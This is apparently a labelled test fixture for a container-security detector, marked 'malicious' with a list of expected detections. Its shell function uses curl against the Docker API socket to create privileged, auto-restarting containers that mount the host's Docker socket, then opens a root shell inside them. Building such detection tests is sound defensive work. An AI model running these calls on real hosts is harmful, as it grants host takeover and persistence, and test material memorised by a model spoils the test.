# privileged-by-curl: calls of the API by curl make a privileged container with the engine's socket that comes back by itself, and run a command in it.
# label: malicious
# expects: [privileged-container, docker-socket-mount, host-reaching-container-restarts, command-executed-in-container, shell-opened-in-container]
# allows: [host-namespaces-shared, containers-deleted-in-bulk]
act() {
    call() { curl -s --unix-socket /run/calls.sock -H 'Content-Type: application/json' "$@"; echo; }
    if dev; then
        call -d '{"Image": "alpine:3.19", "Cmd": ["sleep", "60"], "HostConfig": {"Privileged": true, "NetworkMode": "none", "RestartPolicy": {"Name": "always"}, "Binds": ["/var/run/docker.sock:/s"]}}' 'http://e/v1.41/containers/create?name=u1'
        call -X POST http://e/v1.41/containers/u1/start
        id=$(call -d '{"Cmd": ["sh"], "AttachStdin": true}' http://e/v1.41/containers/u1/exec | grep -o '[0-9a-f]\{64\}')
        call -d '{"Detach": true}' "http://e/v1.41/exec/$id/start"
    else
        call -X POST --data '{"Image": "lab/tools:1", "Entrypoint": ["/bin/sleep", "60"], "HostConfig": {"RestartPolicy": {"Name": "unless-stopped"}, "NetworkMode": "none", "Privileged": true, "Mounts": [{"Type": "bind", "Source": "/run/docker.sock", "Target": "/run/docker.sock"}]}}' 'http://e/containers/create?name=agent'
        call -X POST http://e/containers/agent/start
        id=$(call -d '{"Cmd": ["/bin/sh", "-i"], "User": "0", "Tty": true}' http://e/containers/agent/exec | grep -o '[0-9a-f]\{64\}')
        call -d '{"Detach": true}' "http://e/exec/$id/start"
    fi
    sleep 1
}
